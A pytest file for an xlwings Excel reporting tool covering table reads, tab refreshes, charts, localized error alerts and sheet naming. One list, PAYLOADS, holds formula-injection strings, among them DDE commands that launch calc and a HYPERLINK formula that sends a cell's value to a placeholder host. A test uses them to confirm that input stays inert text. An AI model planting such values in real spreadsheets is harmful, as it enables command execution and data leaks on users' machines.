"""The xlwings gateway and the button macros against objects with xlwings' real signatures."""

import datetime as dt
import re
from pathlib import Path
from typing import Any
from unittest import mock

import pandas as pd
import pytest
import xlwings as xw

from clientbase_xl.excel import gateway as gw
from clientbase_xl.excel.gateway import XlwingsGateway
from clientbase_xl.excel.macros import check_book, refresh_book, selected_tabs
from clientbase_xl.refresh import refresh
from clientbase_xl.tabs import TABS
from tests.conftest import linked_text
from tests.excel.fakes import fake_book

SALES = [
    ["Date", "Client", "Amount", "Manager"],
    [dt.datetime(2025, 1, 10), "A1", 500.0, "Ivanov"],
    [dt.datetime(2025, 2, 10), "A1", 300.0, "Ivanov"],
    [dt.datetime(2025, 3, 10), "A1", 200.0, "Ivanov"],
    [dt.datetime(2025, 1, 15), "B2", 250.0, "Petrova"],
    [dt.datetime(2025, 3, 15), "B2", 150.0, "Petrova"],
    [dt.datetime(2025, 2, 20), "C3", 80.0, "Petrova"],
    [dt.datetime(2025, 3, 20), "D4", 20.0, "Ivanov"],
]
SETTINGS = [["Setting", "Value"], ["Language", "ru"]]


def sheets_with(sales: list[list[Any]] = SALES) -> list[Any]:
    # Sales is an Excel table starting at B3; Settings a plain sheet.
    padded = [[None] * 5 for _ in range(2)] + [[None, *row] for row in sales]
    return [
        ("Продажи", padded, {"Sales": (3, 2, len(sales), len(sales[0]))}),
        ("Settings", SETTINGS, {}),
    ]


def book_with(sales: list[list[Any]] = SALES) -> Any:
    return fake_book(sheets_with(sales))


def test_reads_each_input_in_one_bulk_transfer_with_positions() -> None:
    book, rec = book_with()
    tables = XlwingsGateway(book).read_tables()
    assert set(tables) == {"sales", "settings"}
    sales = tables["sales"]
    assert (sales.sheet, sales.first_row, sales.first_col) == ("Продажи", 4, 1)
    assert sales.header == SALES[0] and sales.rows[0] == SALES[1]
    assert rec.reads == 2


def test_large_tables_are_read_in_chunks(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(gw, "READ_CHUNK", 3)
    book, rec = book_with()
    tables = XlwingsGateway(book).read_tables()
    assert len(tables["sales"].rows) == len(SALES) - 1
    assert rec.reads == 3 + 1  # 8 rows in chunks of 3, and Settings


def test_refresh_writes_each_block_in_one_transfer_and_never_touches_inputs() -> None:
    book, rec = book_with()
    outcome = refresh(XlwingsGateway(book))
    assert outcome.lang == "ru"  # from the Settings sheet
    blocks = sum(len(t.spec.blocks) for t in outcome.tabs)
    assert len(rec.writes) == blocks
    assert {w[0] for w in rec.writes} == {t.spec.title("ru") for t in outcome.tabs}
    names = [s.name for s in book.made]
    assert names[:2] == ["Продажи", "Settings"]
    assert names[2:] == [t.title("ru") for t in TABS[:-1]]
    for sheet in book.made[:2]:
        sheet.clear.assert_not_called()
        sheet.delete.assert_not_called()
    segments = book.made[names.index("Сегменты")]
    added = [c.kwargs["name"] for c in segments.tables.add.call_args_list]
    assert added == ["cb_segments_clients"]
    # The header row of the Segments table, in Russian, at row 5 (title, note, blank, block title).
    write = next(w for w in rec.writes if w[0] == "Сегменты")
    assert write[1:3] == (5, 1)
    assert write[3][0][:3] == ["Место", "Клиент", "Наименование"]


def test_a_second_refresh_reuses_the_sheets_and_switches_their_language() -> None:
    book, _ = book_with()
    refresh(XlwingsGateway(book))
    count = len(book.made)
    refresh(XlwingsGateway(book), lang="en")
    assert len(book.made) == count
    assert [s.name for s in book.made[2:4]] == ["Dashboard", "Actions"]
    book.made[3].clear.assert_called()


def test_tables_kept_through_a_clear_are_resized_not_added_twice() -> None:
    book, _ = book_with()
    refresh(XlwingsGateway(book), only={"pareto"})
    pareto = book.made[-1]
    kept = []
    for call in pareto.tables.add.call_args_list:
        table = mock.create_autospec(xw.main.Table, instance=True)
        table.name = call.kwargs["name"]
        kept.append(table)
    pareto.tables.__iter__.side_effect = lambda: iter(kept)
    pareto.tables.add.reset_mock()
    refresh(XlwingsGateway(book), only={"pareto"})
    pareto.tables.add.assert_not_called()
    for table in kept:
        table.resize.assert_called_once()


def test_refresh_selected_replaces_only_the_ticked_tabs() -> None:
    book, rec = book_with()
    refresh(XlwingsGateway(book), only={"nps"})
    assert {w[0] for w in rec.writes} == {"NPS"}


def test_input_problems_show_a_message_box_and_write_the_errors_tab() -> None:
    bad = [row[:] for row in SALES]
    bad[3][2] = "двести"
    book, _ = book_with(bad)
    refresh_book(book)
    book.app.alert.assert_called_once()
    text = book.app.alert.call_args.args[0]
    # In Russian, as the Settings sheet asks; the third data row of a table headed at row 3.
    assert text.startswith("ошибка: Продажи!6 [Amount (D)]: 'двести' Ожидалось число.")
    assert book.app.alert.call_args.kwargs["title"] == "ClientBase: ошибки во входных данных"
    assert [s.name for s in book.made][-1] in {"Errors", "Ошибки"}
    assert book.app.status_bar is False


def test_check_inputs_alerts_no_problems() -> None:
    book, _ = book_with()
    check_book(book)
    assert book.app.alert.call_args.args[0] == "Проблем не найдено."


def test_the_start_sheets_tab_choice() -> None:
    book, _ = fake_book(
        [
            (
                "Start",
                [["Tab", "Refresh"], ["Segments", "yes"], ["NPS", "no"], ["Миграция", "да"]],
                {"TabChoice": (1, 1, 4, 2)},
            )
        ]
    )
    assert selected_tabs(book) == {"segments", "migration"}
    assert selected_tabs(fake_book([])[0]) is None


def test_the_lite_main_exposes_the_same_scripts_and_functions() -> None:
    from clientbase_xl.excel import lite_main, udfs

    for name in ("refresh", "refresh_selected", "close_month", "check_inputs"):
        assert callable(getattr(lite_main, name))
    assert {f.__name__ for f in udfs.CATALOGUE} <= set(dir(lite_main))
    book, rec = book_with()
    lite_main.refresh(book)
    assert len(rec.writes) > 0


def test_the_excel_layer_needs_no_file_library() -> None:
    # xlwings Lite has no python-calamine or XlsxWriter: the Excel edge must not import them.
    import subprocess
    import sys

    code = (
        "import sys, clientbase_xl.excel.macros, clientbase_xl.excel.udfs; "
        "print(sorted(m for m in ('python_calamine', 'xlsxwriter', 'lxml') "
        "if m in sys.modules))"
    )
    out = subprocess.run(
        [sys.executable, "-c", code], capture_output=True, text=True, check=True
    ).stdout
    assert out.strip() == "[]"


def test_charts_are_real_excel_charts_redrawn_on_each_refresh() -> None:
    book, _ = book_with()
    outcome = refresh(XlwingsGateway(book))
    sheet = next(s for s in book.made if s.name == "Сводка")
    dashboard = next(t for t in outcome.tabs if t.spec.key == "dashboard")
    expected = [c for c in dashboard.spec.charts if not dashboard.frames[c.block].empty]
    assert len(sheet.drawn) == len(expected) >= 3
    types = [c.chart_type for c in sheet.drawn]
    assert types == [gw.CHART_TYPES[c.kind] for c in expected]
    # The ABC-share chart's source: the month column, then one area per class column.
    source = sheet.drawn[0].set_source_data.call_args.args[0].address
    assert source.startswith("$A$") and source.count(",") == len(ctx_letters(dashboard))
    assert sheet.drawn[0].name == "Доли выручки по классам ABC"
    tops = [c.top for c in sheet.drawn]
    assert tops == sorted(tops) and len(set(tops)) == len(tops)  # one under the other
    refresh(XlwingsGateway(book))
    assert len(sheet.drawn) == len(expected)  # the old charts were deleted, not piled up


def ctx_letters(tab: Any) -> list[str]:
    """The ABC class columns the Dashboard's classes block holds."""
    return [c for c in tab.frames["classes"].columns if c != "month"]


def test_a_sales_file_named_in_settings_is_read_beside_the_book(tmp_path: Path) -> None:
    # The workbook's Sales table holds client A1 only; the Parquet file beside it, two clients.
    pd.DataFrame(
        {"date": pd.to_datetime(["2025-01-10", "2025-02-11"]), "client": ["F1", "F2"]}
    ).assign(amount=[10.0, 20.0]).to_parquet(tmp_path / "sales.parquet")
    book, _ = fake_book(
        [
            ("Sales", SALES[:2], {}),
            ("Settings", [["Setting", "Value"], ["Sales file", "sales.parquet"]], {}),
        ]
    )
    book.fullname = str(tmp_path / "book.xlsm")
    tables = XlwingsGateway(book).read_tables()
    assert tables["sales"].sheet == "sales.parquet"
    assert list(tables["sales"].column(1)) == ["F1", "F2"]


PAYLOADS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.invalid/?x="&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "02429",
]


def test_text_from_the_inputs_stays_text_in_excel() -> None:
    sales = [SALES[0]] + [
        [dt.datetime(2025, 1 + i % 3, 10), client, 100.0 + i, manager]
        for i, (client, manager) in enumerate(zip(PAYLOADS, reversed(PAYLOADS), strict=True))
    ]
    book, rec = book_with(sales)
    refresh(XlwingsGateway(book))
    # The only formulas are the product's own: links whose shown text is a quoted literal
    # (the id, quotes doubled) and the card's lookups, which hold cell references only.
    lookup = re.compile(r'=IFERROR\(IF\(INDEX\([$A-Z0-9:,()&"=]+\),""\)')
    linked = []
    for *_, text in rec.formulas:
        shown = linked_text(text)
        assert shown is not None or lookup.fullmatch(text), text
        if shown is not None:
            linked.append(shown)
    assert set(PAYLOADS) <= set(linked)
    segments = next(s for s in book.made if s.name == "Сегменты")
    shown = {v for v in segments.grid.cells.values() if isinstance(v, str)}
    # Names are kept exactly, without the prefix that kept them text (ids are links).
    assert set(PAYLOADS) <= shown | set(linked)


def _mark(sheet: Any) -> str | None:
    return next((n.refers_to for n in sheet.names if n.name.endswith("!_cb_tab")), None)


def test_a_user_sheet_named_like_a_tab_survives_and_tabs_carry_marks() -> None:
    book, _ = fake_book([*sheets_with(), ("Сегменты", [["мои заметки"]], {})])
    refresh(XlwingsGateway(book))
    names = [s.name for s in book.made]
    assert names.count("Сегменты") == 1 and "Сегменты (2)" in names
    mine = book.made[names.index("Сегменты")]
    mine.clear.assert_not_called()
    mine.delete.assert_not_called()
    assert _mark(mine) is None
    assert _mark(book.made[names.index("Сегменты (2)")]) == '="segments|Сегменты (2)"'
    refresh(XlwingsGateway(book))
    assert [s.name for s in book.made] == names


def test_a_tab_the_user_renamed_is_kept_and_gives_its_table_name_up() -> None:
    book, _ = book_with()
    refresh(XlwingsGateway(book), only={"pareto"})
    pareto = book.made[-1]
    table = mock.create_autospec(xw.main.Table, instance=True)
    table.name = "cb_pareto_curve"
    pareto.tables.__iter__.side_effect = lambda: iter([table])
    pareto.name = "Парето окт"
    refresh(XlwingsGateway(book), only={"pareto"})
    names = [s.name for s in book.made]
    assert "Парето окт" in names and "Парето" in names
    pareto.clear.assert_not_called()
    assert table.name == "cb_pareto_curve_2"
    new = book.made[names.index("Парето")]
    assert "cb_pareto_curve" in [c.kwargs["name"] for c in new.tables.add.call_args_list]


def test_fakes_have_xlwings_signatures() -> None:
    import inspect

    from tests.excel.fakes import FakeRange

    def shape(function: Any) -> list[tuple[str, Any, Any]]:
        params = inspect.signature(function).parameters.values()
        return [(p.name, p.kind, p.default) for p in params]

    for name in ("resize", "options"):
        assert shape(getattr(FakeRange, name)) == shape(getattr(xw.Range, name)), name
    with pytest.raises(AttributeError):
        FakeRange.__new__(FakeRange).no_such_attribute = 1
